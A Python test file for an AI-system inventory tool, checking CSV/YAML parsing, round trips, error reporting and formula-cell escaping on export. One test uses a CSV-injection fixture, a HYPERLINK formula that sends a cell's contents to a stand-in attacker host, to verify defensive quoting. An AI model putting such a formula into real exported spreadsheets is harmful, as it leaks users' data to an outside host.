"""CSV/YAML formats: cell syntax, file problems, and render → parse giving the same records."""

from __future__ import annotations

import csv
import io

from aitower.inventory.domain import check_system, spec_document
from aitower.inventory.transfer import (
    Format,
    parse_data_source,
    parse_model,
    parse_systems,
    parse_vendors,
    render_systems,
    render_vendors,
)
from aitower.inventory.vendor_domain import check_vendor, vendor_document

FULL = {
    "name": "Claims triage",
    "kind": "llm_app",
    "unit": "Operations",
    "purpose": "Sorts, claims; quickly",
    "accountable_owner": "olivia.chen",
    "stage": "monitoring",
    "affected": ["customers"],
    "models": [
        {"provider": "openai", "name": "gpt-4o", "version": "2024-08-06", "hosting": "third_party"},
        {"provider": "internal", "name": "ranker", "version": "", "hosting": "internal"},
    ],
    "vendors": ["OpenAI"],
    "data_sources": [
        {
            "name": "claims",
            "classification": "restricted",
            "personal_data": True,
            "special_category": True,
        }
    ],
    "environments": [{"name": "prod", "endpoint": "https://triage.example.com/v1"}],
    "services": ["claims-triage"],
    "links": {"docs": "https://docs.example.com", "repository": ""},
    "tags": ["claims", "triage"],
    "notes": "multi\nline",
}


def test_cell_syntax() -> None:
    assert parse_model("openai/gpt-4o@2024-08-06") == {
        "provider": "openai",
        "name": "gpt-4o",
        "version": "2024-08-06",
        "hosting": "third_party",
    }
    assert parse_model("internal/fraud-gbm@3:internal")["hosting"] == "internal"
    assert parse_model("meta/llama/3")["name"] == "llama/3"
    assert parse_model("no-provider") is None
    assert parse_data_source("crm:confidential:personal") == {
        "name": "crm",
        "classification": "confidential",
        "personal_data": True,
        "special_category": False,
    }
    assert parse_data_source("crm:confidential:secret") is None


def test_systems_round_trip_in_both_formats() -> None:
    spec = check_system(FULL)
    doc = {**spec_document(spec), "risk_tier": "high"}
    for fmt in Format:
        parsed = parse_systems(render_systems([doc], fmt), fmt)
        assert parsed.issues == []
        assert [check_system(d) for _, d in parsed.rows] == [spec]


def test_bad_cells_and_columns_are_reported_with_row_and_field() -> None:
    text = "name,kind,unit,models,colour\nA,llm_app,x,nonsense,red\n"
    parsed = parse_systems(text, Format.csv)
    assert [(i.row, i.field) for i in parsed.issues] == [(0, "colour")]
    parsed = parse_systems("name,kind,unit,models\nA,llm_app,x,ok/m;nonsense\n", Format.csv)
    assert [(i.row, i.field) for i in parsed.issues] == [(1, "models[1]")]


def test_csv_that_the_csv_module_cannot_read_is_an_issue_not_a_crash() -> None:
    # Found by schemathesis: a lone carriage return made csv raise (a 500 before).
    assert parse_systems("\r0", Format.csv).issues[0].field in {"file", "0"}
    broken = parse_systems('name,kind\n"A\x00,llm_app\n', Format.csv)
    assert broken.issues and broken.issues[0].row == 0
    ends = parse_systems("name,kind,unit\rA,llm_app,x\r", Format.csv)
    assert ends.issues == [] and len(ends.rows) == 1


def test_yaml_problems_are_reported() -> None:
    assert parse_systems("systems: [1, {name: a, colour: red}]", Format.yaml).issues[0].row == 1
    fields = [
        i.field for i in parse_systems("systems: [{name: a, colour: red}]", Format.yaml).issues
    ]
    assert fields == ["colour"]
    assert parse_systems("{{{", Format.yaml).issues[0].row == 0


def test_vendors_round_trip() -> None:
    spec = check_vendor(
        {
            "name": "OpenAI",
            "vendor_type": "model_provider",
            "annual_value": 120000,
            "soc2_until": "2027-01-31",
            "dpa_signed": True,
            "trains_on_customer_data": None,
            "retention_days": 30,
        }
    )
    for fmt in Format:
        parsed = parse_vendors(render_vendors([vendor_document(spec)], fmt), fmt)
        assert parsed.issues == []
        assert [check_vendor(d) for _, d in parsed.rows] == [spec]


def test_exported_cells_that_a_spreadsheet_would_run_are_quoted_and_read_back_as_sent() -> None:
    """#14, OWASP CSV injection: a cell starting with =, +, -, @, tab or CR is written after a
    quote; importing the file gives the value back as it was."""
    spec = check_vendor(
        {
            "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "vendor_type": "model_provider",
            "notes": "@SUM(1+1)",
        }
    )
    text = render_vendors([vendor_document(spec)], Format.csv)
    cells = next(iter(csv.DictReader(io.StringIO(text))))
    assert cells["name"] == "'" + spec.name
    assert cells["notes"] == "'@SUM(1+1)"
    parsed = parse_vendors(text, Format.csv)
    assert [check_vendor(d) for _, d in parsed.rows] == [spec]
    system = check_system({**FULL, "purpose": "-1+2 the cheaper path", "notes": "+vip"})
    text = render_systems([spec_document(system)], Format.csv)
    cells = next(iter(csv.DictReader(io.StringIO(text))))
    assert (cells["purpose"], cells["notes"]) == ("'-1+2 the cheaper path", "'+vip")
    parsed = parse_systems(text, Format.csv)
    assert [check_system(d) for _, d in parsed.rows] == [system]
